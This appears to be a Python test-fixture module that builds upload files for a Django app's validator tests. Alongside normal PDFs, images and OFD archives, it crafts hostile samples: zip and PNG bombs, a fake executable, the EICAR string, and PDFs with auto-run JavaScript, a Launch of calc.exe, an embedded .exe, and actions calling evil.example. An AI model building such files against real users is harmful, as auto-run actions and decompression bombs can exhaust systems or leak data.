"""Real crafted files for upload tests (built in memory, never committed)."""

from __future__ import annotations

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter


def pdf_bytes(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_pdf_bytes() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def corrupt_pdf_bytes() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ngarbage without xref\n%%EOF"
    )


def image_bytes(fmt: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


def executable_bytes() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


def zip_bomb_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", "<ofd/>")
        archive.writestr("Doc_0/big.bin", b"\x00" * (30 * 1024 * 1024))
    return buffer.getvalue()


def plain_zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "hello")
    return buffer.getvalue()


def ofd_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", "<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016'/>")
        archive.writestr("Doc_0/Document.xml", "<doc/>")
    return buffer.getvalue()


def upload(
    name: str, content: bytes, content_type: str = "application/octet-stream"
) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- hostile files (issue 11 §9) -------------------------------------------------------


def png_bomb_bytes(width: int = 20000, height: int = 20000) -> bytes:
    """A tiny PNG whose header claims width×height pixels (119 bytes for 20000×20000)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 64, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", pixels)
        + chunk(b"tEXt", b"Comment\x00" + b"." * 30)
        + chunk(b"IEND", b"")
    )


def active_pdf_bytes(kind: str) -> bytes:
    """A one-page PDF carrying one kind of active content."""
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NullObject,
        TextStringObject,
    )

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    root = writer._root_object
    if kind == "javascript":  # a document-level script in the /Names /JavaScript tree
        script = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert('hi');"),
                }
            )
        )
        root[NameObject("/Names")] = DictionaryObject(
            {
                NameObject("/JavaScript"): DictionaryObject(
                    {NameObject("/Names"): ArrayObject([TextStringObject("hi"), script])}
                )
            }
        )
    elif kind == "openaction":
        root[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("this.exportDataObject({cName:'a'})"),
            }
        )
    elif kind == "launch":
        root[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("calc.exe"),
            }
        )
    elif kind == "embedded":
        writer.add_attachment("invoice.exe", b"MZ payload")
    elif kind == "richmedia":
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/RichMedia"),
                NameObject("/Rect"): ArrayObject([FloatObject(0)] * 4),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    elif kind in ("gotor", "submitform", "openaction_uri", "page_aa_uri", "link_uri"):
        action = {
            "gotor": {"/S": "/GoToR", "/F": "\\\\evil.example\\share\\x.pdf"},
            "submitform": {"/S": "/SubmitForm", "/F": "https://evil.example/"},
        }.get(kind, {"/S": "/URI", "/URI": "https://evil.example/"})
        action = DictionaryObject(
            {
                NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
                for k, v in action.items()
            }
        )
        if kind == "page_aa_uri":  # on opening the page
            page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
        elif kind == "link_uri":  # an ordinary link: followed only when clicked
            link = DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/Rect"): ArrayObject([FloatObject(0)] * 4),
                    NameObject("/A"): action,
                }
            )
            page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
        else:
            root[NameObject("/OpenAction")] = writer._add_object(action)
    elif kind == "many_objects":  # a script hidden behind more objects than are searched
        nulls = ArrayObject(writer._add_object(NullObject()) for _ in range(120_000))
        root[NameObject("/Z")] = ArrayObject([writer._add_object(nulls)])
        root[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
        )
    elif kind == "xfa":
        root[NameObject("/AcroForm")] = DictionaryObject(
            {
                NameObject("/Fields"): ArrayObject(),
                NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
            }
        )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def ofd_with(name: str, content: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", "<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016'/>")
        archive.writestr("Doc_0/Document.xml", "<doc/>")
        archive.writestr(name, content)
    return buffer.getvalue()


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def eicar_pdf_bytes() -> bytes:
    """A valid PDF with the EICAR test string in a comment line."""
    pdf = pdf_bytes()
    return pdf[:9] + b"%" + EICAR + b"\n" + pdf[9:]


def ofd_with_unreadable_member(*, flags: int = 0, method: int | None = None) -> bytes:
    """An OFD whose OFD.xml member claims encryption (flag bit 0) or a compression method
    zipfile cannot read (99, AES): the header fields patched in both headers."""
    data = bytearray(ofd_bytes())
    central = data.index(b"PK\x01\x02")  # the first entry's central header (OFD.xml)
    for offset, flag_at, method_at in ((0, 6, 8), (central, 8, 10)):
        data[offset + flag_at] |= flags
        if method is not None:
            data[offset + method_at : offset + method_at + 2] = method.to_bytes(2, "little")
    return bytes(data)
